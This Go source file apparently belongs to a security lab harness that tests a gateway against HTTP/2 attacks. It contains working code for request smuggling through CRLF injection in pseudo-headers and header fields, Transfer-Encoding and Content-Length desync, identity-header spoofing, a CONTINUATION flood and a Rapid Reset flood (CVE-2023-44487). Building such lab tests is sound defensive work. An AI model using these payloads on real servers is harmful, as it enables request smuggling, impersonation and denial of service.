package lab

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// An h2 is a connection of raw HTTP/2 frames.
type h2 struct {
	conn   net.Conn
	framer *http2.Framer
	hbuf   bytes.Buffer
	enc    *hpack.Encoder
}

func (a *attempt) http2(ctx context.Context, svc *Service) (*h2, error) {
	conn, err := a.target.dial(ctx, a.from, svc, nil, "h2")
	if err != nil {
		return nil, err
	}
	_ = conn.SetDeadline(time.Now().Add(3 * rawPatience))
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		conn.Close()
		return nil, err
	}
	h := &h2{conn: conn, framer: http2.NewFramer(conn, conn)}
	h.framer.AllowIllegalWrites = true
	h.framer.ReadMetaHeaders = hpack.NewDecoder(4096, nil)
	h.enc = hpack.NewEncoder(&h.hbuf)
	if err = h.greet(); err != nil {
		conn.Close()
	}
	return h, err
}

// greet exchanges settings, so that afterwards one goroutine may only write and
// another only read.
func (h *h2) greet() error {
	if err := h.framer.WriteSettings(); err != nil {
		return err
	}
	for {
		f, err := h.framer.ReadFrame()
		if err != nil {
			return err
		}
		if s, ok := f.(*http2.SettingsFrame); ok && !s.IsAck() {
			return h.framer.WriteSettingsAck()
		}
	}
}

// block encodes fields, names and values in turn.
func (h *h2) block(fields ...string) []byte {
	h.hbuf.Reset()
	for i := 0; i+1 < len(fields); i += 2 {
		_ = h.enc.WriteField(hpack.HeaderField{Name: fields[i], Value: fields[i+1]})
	}
	return bytes.Clone(h.hbuf.Bytes())
}

// wait reads frames until stream 1 is over or the connection ends. It returns
// the answer's status, or "" where none came.
func (h *h2) wait() (status string) {
	for {
		f, err := h.framer.ReadFrame()
		if err != nil {
			return status
		}
		switch f := f.(type) {
		case *http2.MetaHeadersFrame:
			status = f.PseudoValue("status")
			if f.StreamEnded() {
				return status
			}
		case *http2.DataFrame:
			if f.StreamEnded() {
				return status
			}
		case *http2.RSTStreamFrame, *http2.GoAwayFrame:
			return status
		}
	}
}

// request2 sends one request of raw fields on a connection of its own, and
// returns the answer's status, or "".
func (a *attempt) request2(svc *Service, fields []string, data string) (status string, err error) {
	h, err := a.http2(a.ctx, svc)
	if err != nil {
		return "", err
	}
	defer h.conn.Close()
	a.sent.Add(1)
	a.answered.Add(1)
	err = h.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: h.block(fields...), EndHeaders: true, EndStream: data == ""})
	if err == nil && data != "" {
		err = h.framer.WriteData(1, true, []byte(data))
	}
	if err != nil {
		return "", err
	}
	return h.wait(), nil
}

// pseudo is the head of a request.
func pseudo(method, path, authority string) []string {
	return []string{":method", method, ":scheme", "https", ":path", path, ":authority", authority}
}

// http2Attacks are API8 and API4 over HTTP/2: what becomes an HTTP/1.1 message
// behind, and frames without end.
func http2Attacks() []Attack {
	var list []Attack
	// inject sends one request to the legacy service; data is its body, if any, in
	// which {run} stands for the mark.
	inject := func(name, title string, effect string, fields func(a *attempt, authority string) []string, data string) {
		list = append(list, Attack{Name: "h2-" + name, Title: title, Class: API8, Room: "gateway",
			OnlyGateway: "services behind speak HTTP/1.1", run: func(a *attempt) (bool, error) {
				svc := a.shop.Service("legacy")
				status, err := a.request2(svc, pseudo("GET", "/v0/status", a.host(svc)), "")
				if err != nil || status != "200" {
					return false, fmt.Errorf("%w: a lawful request: %q %w", errInconclusive, status, err)
				}
				if _, err := a.request2(svc, append(fields(a, a.host(svc)), "x-lab-run", a.run), strings.ReplaceAll(data, "{run}", a.run)); err != nil {
					return false, err
				}
				if effect == "host" {
					return a.sawHost("evil.example"), nil
				}
				return a.soon(func() bool { return a.did(effect) }), nil
			}})
	}
	const hidden = "GET /v0/users HTTP/1.1\r\nHost: x\r\n" + RunHeader + ": {run}\r\n\r\n"
	inject("method", "a request line in :method", "zombie.version", func(a *attempt, authority string) []string {
		return pseudo("GET /v0/users HTTP/1.1\r\nX: ", "/v0/status", authority)
	}, "")
	inject("method-space", "a space in :method", "zombie.version", func(a *attempt, authority string) []string {
		return pseudo("GET /v0/users", "/v0/status", authority)
	}, "")
	inject("path", "a request in :path", "zombie.version", func(a *attempt, authority string) []string {
		return pseudo("GET", "/v0/status HTTP/1.1\r\nHost: x\r\n\r\n"+strings.ReplaceAll(hidden, "{run}", a.run), authority)
	}, "")
	inject("path-space", "a space in :path", "zombie.version", func(a *attempt, authority string) []string {
		return pseudo("GET", "/v0/users HTTP/1.1", authority)
	}, "")
	inject("path-fragment", "a fragment in :path", "zombie.version", func(a *attempt, authority string) []string {
		return pseudo("GET", "/v0/users#/v0/status", authority)
	}, "")
	inject("authority", "line breaks in :authority", "spoofed.identity", func(a *attempt, authority string) []string {
		return pseudo("GET", "/v0/status", authority+"\r\nX-Gatehouse-Subject: "+spoofed)
	}, "")
	inject("host", "a Host that differs from :authority", "host", func(a *attempt, authority string) []string {
		return append(pseudo("GET", "/v0/status", authority), "host", "evil.example")
	}, "")
	inject("value", "line breaks in a value", "spoofed.identity", func(a *attempt, authority string) []string {
		return append(pseudo("GET", "/v0/status", authority), "x-note", "a\r\nX-Gatehouse-Subject: "+spoofed)
	}, "")
	inject("name", "line breaks in a name", "spoofed.identity", func(a *attempt, authority string) []string {
		return append(pseudo("GET", "/v0/status", authority), "x-gatehouse-subject: "+spoofed+"\r\nx", "b")
	}, "")
	inject("pseudo-twice", "two :path fields", "zombie.version", func(a *attempt, authority string) []string {
		return append(pseudo("GET", "/v0/status", authority), ":path", "/v0/users")
	}, "")
	inject("te", "Transfer-Encoding over HTTP/2", "zombie.version", func(a *attempt, authority string) []string {
		return append(pseudo("POST", "/v0/feedback", authority), "transfer-encoding", "chunked")
	}, "0\r\n\r\n"+hidden)
	inject("cl", "a Content-Length that the frames contradict", "zombie.version", func(a *attempt, authority string) []string {
		return append(pseudo("POST", "/v0/feedback", authority), "content-length", "2")
	}, "{}"+hidden)
	return append(list,
		Attack{Name: "h2-continuation", Title: "a header that goes on for ever (CONTINUATION flood)", Class: API4, Room: "gateway",
			OnlyGateway: "services behind speak HTTP/1.1", run: continuationFlood},
		Attack{Name: "h2-rapid-reset", Title: "2,000 streams opened and reset again", Class: API4, Room: "gateway",
			OnlyGateway: "services behind speak HTTP/1.1", run: rapidReset})
}

// continuationFlood is missed where 16 MB of header were taken without a word.
func continuationFlood(a *attempt) (bool, error) {
	svc := a.shop.Service("catalogue")
	h, err := a.http2(a.ctx, svc)
	if err != nil {
		return false, err
	}
	defer h.conn.Close()
	a.sent.Add(1)
	a.answered.Add(1)
	ended := make(chan struct{})
	go func() {
		h.wait()
		close(ended)
	}()
	first := h.block(":method", "GET", ":scheme", "https", ":path", "/catalogue/items", ":authority", a.host(svc))
	if err := h.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: first}); err != nil {
		return false, err
	}
	chunk := make([]byte, 0, 16<<10)
	for len(chunk) < 15<<10 {
		chunk = append(chunk, h.block("x-flood", a.secret())...)
	}
	for range 1024 {
		select {
		case <-ended:
			return false, nil
		default:
		}
		if h.framer.WriteContinuation(1, false, chunk) != nil {
			return false, nil
		}
	}
	select {
	case <-ended:
		return false, nil
	case <-time.After(500 * time.Millisecond):
		return true, nil
	}
}

// rapidReset (CVE-2023-44487) is missed where most of the streams made the
// service work.
func rapidReset(a *attempt) (bool, error) {
	svc := a.shop.Service("catalogue")
	h, err := a.http2(a.ctx, svc)
	if err != nil {
		return false, err
	}
	defer h.conn.Close()
	a.answered.Add(1)
	go func() { _, _ = io.Copy(io.Discard, h.conn) }() // or the other side stops reading
	const batches, batch = 20, 100
	for i := range batches {
		first := uint32(2*i*batch + 1)
		for id := first; id < first+2*batch; id += 2 {
			a.sent.Add(1)
			block := h.block(append(pseudo("GET", "/catalogue/items/tea", a.host(svc)), "x-lab-run", a.run)...)
			if h.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true, EndStream: true}) != nil {
				return a.shop.Received(a.run) > resetGrant, nil // thrown out
			}
		}
		time.Sleep(10 * time.Millisecond) // let them set to work
		for id := first; id < first+2*batch; id += 2 {
			if h.framer.WriteRSTStream(id, http2.ErrCodeCancel) != nil {
				return a.shop.Received(a.run) > resetGrant, nil
			}
		}
	}
	a.soon(func() bool { return a.shop.Received(a.run) > resetGrant })
	return a.shop.Received(a.run) > resetGrant, nil
}

// resetGrant is twice what the limits grant one address on one operation.
const resetGrant = 2 * grantEndpoint
